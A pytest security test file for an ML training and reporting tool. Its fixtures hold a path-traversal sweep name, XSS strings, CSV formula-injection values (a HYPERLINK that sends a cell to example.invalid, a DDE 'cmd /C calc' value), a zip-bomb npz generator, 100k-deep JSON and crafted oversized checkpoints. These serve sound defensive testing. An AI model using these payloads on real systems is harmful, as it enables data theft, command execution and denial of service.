"""Files read back from places others can write, bounded before they are read: the tracking store's sweep
names, tags and artifacts (reports), checkpoints (predict) and a disk that fills up (train --save).

Real files throughout: an MLflow SQLite store written by MlflowClient, a zip bomb written as numpy writes
an .npz, checkpoints written by `cnnclf.train.save_checkpoint` and `python -m cnnclf train --save`, and a
real full filesystem (a 64 KiB tmpfs, where the machine lets the tests mount one). The user-visible
outcome is checked on real subprocesses: exit code, one stderr line, peak memory.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import numpy as np
import pytest
import torch
from mlflow.entities import Metric, Param
from mlflow.tracking import MlflowClient

from cnnclf.config import TrainConfig
from tests.conftest import write_cifar_folders

ROOT = Path(__file__).resolve().parents[1]
PEAK_MB = 1024  # a command that reads a bomb or a crafted checkpoint stays under this
T0 = 1_750_000_000_000  # ms
BAD_NAME = "../../../escape/x"
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def run(*cmd: object, timeout: float = 300) -> tuple[subprocess.CompletedProcess, float]:
    """`cmd` in a wrapper process whose only child it is: (its result, the child's peak RSS in MiB)."""
    wrapper = (
        "import resource, subprocess, sys\n"
        "r = subprocess.run(sys.argv[2:])\n"
        "open(sys.argv[1], 'w').write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss))\n"
        "sys.exit(r.returncode)\n"
    )
    with tempfile.TemporaryDirectory() as tmp:
        peak = Path(tmp) / "peak_kib"
        r = subprocess.run(
            [sys.executable, "-c", wrapper, str(peak), *map(str, cmd)],
            capture_output=True,
            text=True,
            timeout=timeout,
            cwd=ROOT,
        )
        return r, float(peak.read_text()) / 1024 if peak.exists() else float("nan")


def one_line(r: subprocess.CompletedProcess, code: int, *needles: str) -> str:
    lines = [line for line in r.stderr.strip().splitlines() if line.strip()]
    assert r.returncode == code, r.stderr[-3000:]
    assert "Traceback" not in r.stderr, r.stderr[-3000:]
    assert all(n in lines[-1] for n in needles), lines[-1]
    return lines[-1]


# --- a tracking store with sweeps that others wrote --------------------------------------------


class Store:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.uri = f"sqlite:///{root / 'mlflow.db'}"
        self.c = MlflowClient(self.uri)
        self.files = root / "files"

    def sweep(self, exp: str, name: str, start_s: float, trials: list[dict], **artifacts: Path) -> None:
        exp_id = self.c.get_experiment_by_name(exp)
        exp_id = exp_id.experiment_id if exp_id else self.c.create_experiment(exp, (self.root / "art" / exp).as_uri())
        tags = {"sweep": name, "role": "sweep", "status": "completed"}
        parent = self.c.create_run(exp_id, start_time=T0 + int(start_s * 1000), run_name="sweep", tags=tags)
        pid = parent.info.run_id
        self.c.log_batch(pid, params=[Param("sweep.num_samples", str(len(trials)))])
        for i, t in enumerate(trials):
            tags = {"mlflow.parentRunId": pid, "sweep": name, "trial_id": f"t_{i:05d}", "role": "trial"}
            tags |= {"status": "completed", **t.get("tags", {})}
            begin = T0 + int((start_s + 10 * i) * 1000)
            rid = self.c.create_run(exp_id, start_time=begin, run_name=f"trial-{i}", tags=tags).info.run_id
            cfg = TrainConfig(task="cifar10", model="cnn", epochs=2, lr=0.001 * (i + 1), width=8 * (i + 1))
            params = {k: str(v) for k, v in cfg.to_dict().items() if k != "tags"} | t.get("params", {})
            self.c.log_batch(rid, params=[Param(k, v) for k, v in sorted(params.items())])
            for epoch, acc in enumerate(t["val"], start=1):
                m = {"val/acc": acc, "train/loss": 1.0 / epoch}
                m |= {"test/acc": acc - 0.01} if epoch == len(t["val"]) else {}
                self.c.log_batch(rid, metrics=[Metric(k, v, begin + epoch * 1000, epoch) for k, v in m.items()])
            failed = tags["status"] == "error"
            self.c.set_terminated(rid, status="FAILED" if failed else "FINISHED", end_time=begin + 9000)
        for where, path in artifacts.items():
            self.c.log_artifact(pid, str(path), artifact_path="eval" if where in ("samples", "confusion") else None)
        self.c.set_terminated(pid, status="FINISHED", end_time=T0 + int((start_s + 100) * 1000))


def write_bomb(path: Path, shape=(2048, 3, 512, 512)) -> Path:
    """An .npz as np.savez_compressed writes it, whose images are 1.6 GB of zeros in a few MB."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        with zf.open("images.npy", "w", force_zip64=True) as f:
            np.lib.format.write_array_header_1_0(f, {"descr": "|u1", "fortran_order": False, "shape": shape})
            chunk, total = bytes(64 * 2**20), int(np.prod(shape))
            for _ in range(total // len(chunk)):
                f.write(chunk)
            f.write(bytes(total % len(chunk)))
        n = shape[0]
        arrays = {"labels": np.zeros(n, np.int64), "preds": np.zeros(n, np.int64), "probs": np.ones(n)}
        for k, v in (arrays | {"classes": np.array(["cat", "dog"])}).items():
            buf = io.BytesIO()
            np.save(buf, v)
            zf.writestr(f"{k}.npy", buf.getvalue())
    return path


TRAIN = ("--task", "cifar10", "--no-download")
DEEP = "[" * 100_000 + "]" * 100_000  # JSON that nests 100k deep: json.loads alone ends in RecursionError


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> Store:
    s = Store(tmp_path_factory.mktemp("store"))
    s.files.mkdir()
    two = [{"val": [0.3, 0.4]}, {"val": [0.35, 0.5]}]
    s.sweep("names", "good-1", 0, two)
    s.sweep("names", BAD_NAME, 200, two)  # another tool (or an old version) wrote this name
    s.sweep("names", "good-2", 400, two)
    s.sweep("bomb", "bomb-1", 0, two, samples=write_bomb(s.files / "samples.npz"))
    deep = {}
    for name in ("best_config.json", "confusion.json", "warm_start.json"):
        (s.files / name).write_text(DEEP)
        deep[name.removesuffix(".json")] = s.files / name
    s.sweep("deep", "deep-1", 0, two, **deep)
    evil = {
        "tags": {"status": "error", "error": f"{FORMULA}\n\n{SCRIPT} <img src=x onerror=alert(2)> [a](javascript:x)"},
        "params": {"note": "@SUM(1+1)*cmd|' /C calc'!A0", "offset": "-1e-3", "tab": "\t=1+1"},
        "val": [0.2],
    }
    s.sweep("inject", "inject-1", 0, [{"val": [0.3, 0.4], "tags": {"trial_id": "t<b>`1`</b>"}}, evil])
    return s


# --- finding 2: sweep names from the store are names, never paths -------------------------------


def test_a_sweep_name_from_the_store_that_is_a_path_is_skipped_not_written_outside_out(store, tmp_path):
    out = tmp_path / "a" / "b" / "out"
    args = ["--tracking-uri", store.uri, "--experiment", "names", "--sweep", "all", "--out", out]
    r, _ = run(sys.executable, "-m", "reports", *args)
    assert r.returncode == 0, r.stderr[-3000:]
    warnings = [line for line in r.stderr.splitlines() if "skipped" in line]
    assert len(warnings) == 1 and repr(BAD_NAME) in warnings[0] and "not a valid name" in warnings[0], r.stderr
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert written and all(out in p.parents for p in written), [str(p) for p in written if out not in p.parents]
    md = (out / "names-compare" / "report.md").read_text()
    assert "good-1" in md and "good-2" in md and "escape" not in md
    # Named on the command line, the same name is a bad argument: exit 2 before the store is read.
    r, _ = run(sys.executable, "-m", "reports", "--tracking-uri", store.uri, "--sweep", BAD_NAME, "--out", out)
    one_line(r, 2, "--sweep", repr(BAD_NAME))


# --- finding 5: an .npz bomb is a note, from its headers --------------------------------------


def test_a_samples_bomb_is_a_note_and_the_report_stays_small(store, tmp_path):
    assert (store.files / "samples.npz").stat().st_size < 16 * 2**20  # a few MB holding 1.6 GB
    r, peak = run(
        sys.executable, "-m", "reports", "--tracking-uri", store.uri, "--experiment", "bomb", "--out", tmp_path
    )
    assert r.returncode == 0, r.stderr[-3000:]
    assert peak < PEAK_MB, f"peak {peak:.0f} MiB"
    md = (tmp_path / "bomb-1" / "report.md").read_text()
    note = next(line for line in md.splitlines() if "eval/samples.npz" in line and "unreadable" in line)
    assert "(2048, 3, 512, 512)" in note and "at most 256 images" in note, note


def _npz(path: Path, **arrays) -> Path:
    n = 4
    base = {"images": np.zeros((n, 3, 8, 8), np.uint8), "labels": np.zeros(n, np.int64)}
    base |= {"preds": np.zeros(n, np.int64), "probs": np.ones(n), "classes": np.array(["cat", "dog"])}
    np.savez(path, **(base | arrays))
    return path


@pytest.mark.parametrize(
    "arrays, why",
    [
        ({}, None),
        ({"images": np.zeros((4, 3, 8, 8), np.float32)}, "images (4, 3, 8, 8) float32"),
        ({"images": np.zeros((300, 3, 2, 2), np.uint8)}, "at most 256 images"),
        ({"images": np.zeros((4, 3, 600, 600), np.uint8)}, "S <= 512"),
        ({"labels": np.zeros(5, np.int64)}, "labels (5,)"),
        ({"probs": np.array(["x"] * 4)}, "probs"),
        ({"classes": np.array(["c"] * 1001)}, "at most 1000 names"),
    ],
)
def test_check_samples_reads_only_headers(tmp_path, arrays, why):
    from reports.artifacts import check_samples

    path = _npz(tmp_path / "s.npz", **arrays)
    if why is None:
        check_samples(path)
        return
    with pytest.raises(ValueError, match=why.replace("(", r"\(").replace(")", r"\)")):
        check_samples(path)


def test_check_samples_refuses_a_member_that_is_no_npy(tmp_path):
    """np.load hands back the raw bytes of a member without the .npy magic: all of them, decompressed."""
    from reports.artifacts import check_samples

    path = _npz(tmp_path / "s.npz")
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("images", bytes(2**20))  # np.load's z["images"] would read this one
    with pytest.raises(ValueError, match="magic"):
        check_samples(path)


# --- finding 3 (reports' side): JSON read back is depth-bounded --------------------------------


def test_json_artifacts_nested_100k_deep_are_notes(store):
    from reports.data import load_sweep

    s = load_sweep(store.uri, "deep", "deep-1")
    assert s.best_config is None and s.confusion is None and s.warm_start is None
    for name in ("best_config.json", "eval/confusion.json", "warm_start.json"):
        note = next(n for n in s.notes if f"`{name}`" in n)
        assert "nested deeper than 32 levels" in note and "\n" not in note, note


def test_read_json_bounds_depth_and_size(tmp_path):
    from reports.artifacts import MAX_JSON_DEPTH, read_json

    ok = tmp_path / "ok.json"
    ok.write_text(json.dumps({"a": [[{"b": 1}]]}))
    assert read_json(ok) == {"a": [[{"b": 1}]]}
    deep = tmp_path / "deep.json"
    deep.write_text("[" * (MAX_JSON_DEPTH + 1) + "]" * (MAX_JSON_DEPTH + 1))  # under Python's limit, over ours
    with pytest.raises(ValueError, match="nested deeper"):
        read_json(deep)
    big = tmp_path / "big.json"
    with open(big, "wb") as f:
        f.truncate(17 * 2**20)
    with pytest.raises(ValueError, match="MiB"):
        read_json(big)


# --- finding 13: trials.csv and report.md carry names and tags inert ---------------------------


@pytest.fixture(scope="module")
def injected(store, tmp_path_factory) -> Path:
    from reports import build_report

    out = tmp_path_factory.mktemp("inject")
    build_report(store.uri, "inject", None, out)
    return out


def test_trials_csv_cells_never_start_a_formula(injected):
    with open(injected / "trials.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    failed = next(r for r in rows if r["outcome"] == "error")
    assert failed["error"].startswith("'=HYPERLINK(")
    assert failed["note"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and failed["tab"] == "'\t=1+1"
    assert failed["offset"] == "-0.001"  # a number stays a number
    for row in rows:
        for key, cell in row.items():
            assert not key.startswith(("=", "+", "-", "@", "\t", "\r")), key
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # only numbers may start so
    assert float(rows[0]["val/acc"]) == pytest.approx(0.4)


def test_report_md_carries_no_raw_html_or_links(injected):
    import markdown_it

    md = (injected / "report.md").read_text()
    assert SCRIPT.replace("<", "&lt;") in md  # the text is there, escaped
    tokens = markdown_it.MarkdownIt("commonmark").enable("table").parse(md)
    kinds, images = set(), []
    for t in tokens:
        for x in [t, *(t.children or [])]:
            kinds.add(x.type)
            if x.type == "image":
                images.append(x.attrs["src"])
    assert not kinds & {"html_inline", "html_block", "link_open"}, kinds
    assert all(src.endswith(".png") and "/" not in src for src in images), images
    html = (injected / "report.html").read_text()
    assert SCRIPT not in html and "<img src=x" not in html and "<b>" not in html


def test_md_inline_keeps_the_reports_own_code_and_bold():
    from reports.render import md_inline

    assert md_inline("**best** `t<1>` p < 0.05") == "**best** `t<1>` p < 0.05"
    assert md_inline("a\n\n<div>x</div>") == "a  &lt;div>x&lt;/div>"
    assert md_inline("`a``<b>`<i>") == "`a``<b>`&lt;i>"  # a run of two is no closer of a run of one
    assert md_inline("\\`<b>`") == "\\`&lt;b>`"  # an escaped backtick opens nothing
    assert md_inline("![x](http://e.invalid/p.png)") == "![x]\\(http://e.invalid/p.png)"


# --- finding 6: a checkpoint that asks for a huge model is refused before it is built ------------


@pytest.fixture(scope="module")
def trained(tmp_path_factory) -> tuple[Path, Path]:
    root = tmp_path_factory.mktemp("ckpt")
    data = write_cifar_folders(root / "cifar", 8, 2)
    ckpt = root / "model.pt"
    args = ["--model", "cnn", "--depth", "2", "--width", "8", "--batch-size", "32", "--epochs", "1"]
    r, _ = run(sys.executable, "-m", "cnnclf", "train", *TRAIN, "--data-dir", data, *args, "--save", ckpt, timeout=600)
    assert r.returncode == 0, r.stderr[-3000:]
    return data, ckpt


@pytest.mark.parametrize(
    "config, why",
    [
        ({"width": 1024, "depth": 10, "kernel_size": 7, "image_size": 512}, "21,888,465,940 parameters (81.5 GiB)"),
        ({"width": 128, "depth": 10, "kernel_size": 7, "image_size": 512}, "342,060,948 parameters"),
        ({"width": 64, "depth": 4}, "but its weights hold"),
    ],
)
def test_predict_refuses_a_checkpoint_whose_config_asks_for_a_huge_model(trained, predict_peak, tmp_path, config, why):
    from cnnclf.train import load_checkpoint, save_checkpoint

    data, ckpt = trained
    state = load_checkpoint(ckpt)
    crafted = tmp_path / "crafted.pt"
    save_checkpoint({**state, "config": {**state["config"], **config}}, crafted)
    assert crafted.stat().st_size < 2**20
    image = next((data / "test" / "cat").iterdir())
    r, peak = run(sys.executable, "-m", "cnnclf", "predict", "--checkpoint", crafted, image)
    one_line(r, 2, "--checkpoint", str(crafted), why)
    assert len(r.stderr.strip().splitlines()) == 1, r.stderr
    # No model was built: the peak is that of predicting with the real checkpoint (torch's import alone is
    # most of it, and differs between machines). Before the check, width 128 added 0.9 GB, width 1024 81 GiB.
    assert peak < predict_peak + 256, f"peak {peak:.0f} MiB, a real checkpoint's predict {predict_peak:.0f} MiB"


@pytest.fixture(scope="module")
def predict_peak(trained) -> float:
    """The peak RSS (MiB) of `python -m cnnclf predict` with a real small checkpoint, on this machine."""
    data, ckpt = trained
    r, peak = run(
        sys.executable, "-m", "cnnclf", "predict", "--checkpoint", ckpt, next((data / "test" / "cat").iterdir())
    )
    assert r.returncode == 0, r.stderr[-2000:]
    return peak


def test_a_view_that_claims_more_values_than_its_file_holds_is_refused(trained, tmp_path):
    from cnnclf.train import CheckpointError, load_checkpoint, save_checkpoint

    state = load_checkpoint(trained[1])
    crafted = tmp_path / "view.pt"
    save_checkpoint({**state, "extra": torch.zeros(1).expand(2**31)}, crafted)  # 4 bytes of storage
    with pytest.raises(CheckpointError, match="more than the"):
        load_checkpoint(crafted)


def test_a_real_checkpoint_still_predicts(trained):
    data, ckpt = trained
    image = next((data / "test" / "cat").iterdir())
    r, _ = run(sys.executable, "-m", "cnnclf", "predict", "--checkpoint", ckpt, image)
    assert r.returncode == 0 and r.stdout.count("\t") == 2, r.stderr[-2000:]


# --- finding 11: a full disk while saving a checkpoint ----------------------------------------


@pytest.fixture
def full_disk(tmp_path):
    """A 64 KiB tmpfs filled to the last block, where this runs as root (mount allowed): (folder, None).
    Elsewhere a 4 KiB file-size limit on the process fails the same write: (folder, the limit)."""
    where = tmp_path / "full"
    where.mkdir()
    r = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(where)], capture_output=True)
    if r.returncode != 0:
        yield where, 4096  # below any checkpoint; the data's cache and manifest exist already
        return
    try:
        with open(where / "filler", "wb", buffering=0) as f:
            try:
                while True:
                    f.write(bytes(4096))
            except OSError:
                pass
        yield where, None
    finally:
        subprocess.run(["umount", str(where)], check=False)


LIMITED = (  # python -m cnnclf under a file-size limit: writes past it fail with EFBIG, as a full disk fails
    "import resource, runpy, signal, sys\n"
    "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
    "resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[1]),) * 2)\n"
    "sys.argv = ['cnnclf', *sys.argv[2:]]\n"
    "runpy.run_module('cnnclf', run_name='__main__')\n"
)


def test_train_save_on_a_full_disk_says_so_in_one_line(trained, full_disk):
    data, _ = trained
    folder, limit = full_disk
    target = folder / "x.pt"
    args = ["--model", "cnn", "--depth", "2", "--width", "8", "--batch-size", "32", "--epochs", "1"]
    cli = [sys.executable, "-m", "cnnclf"] if limit is None else [sys.executable, "-c", LIMITED, limit]
    r, _ = run(*cli, "train", *TRAIN, "--data-dir", data, *args, "--save", target)
    # cmd_train's progress bar is redrawn after the error at exit: the error is the one line that says "error".
    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr[-3000:]
    errors = [line for line in r.stderr.splitlines() if "error" in line]
    why = "the disk is full" if limit is None else "the write failed (File too large)"
    assert len(errors) == 1 and str(target) in errors[0] and why in errors[0], r.stderr[-3000:]
    assert "unexpected pos" not in errors[0]
    assert sorted(p.name for p in folder.iterdir()) == ([] if limit else ["filler"])  # no x.pt, no x.pt.tmp<pid>


def test_save_checkpoint_that_cannot_be_written_removes_its_temp_file(tmp_path):
    """A file-size limit (EFBIG) fails the same write without root; an earlier checkpoint stays."""
    target = tmp_path / "x.pt"
    target.write_bytes(b"earlier")
    code = (
        "import resource, signal, sys, torch\n"
        "from cnnclf.train import CheckpointWriteError, save_checkpoint\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))\n"
        "try:\n"
        "    save_checkpoint({'w': torch.zeros(100_000)}, sys.argv[1])\n"
        "except CheckpointWriteError as e:\n"
        "    print(e)\n"
    )
    r = subprocess.run([sys.executable, "-c", code, str(target)], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert r.returncode == 0, r.stderr[-2000:]
    assert f"cannot write the checkpoint {target}: the write failed (File too large)" in r.stdout, r.stdout
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.pt"] and target.read_bytes() == b"earlier"


def test_a_pickling_error_is_no_disk_error(tmp_path):
    from cnnclf.train import CheckpointWriteError, save_checkpoint

    with pytest.raises(Exception) as e:
        save_checkpoint({"f": lambda: 0}, tmp_path / "x.pt")
    assert not isinstance(e.value, CheckpointWriteError)
    assert list(tmp_path.iterdir()) == []
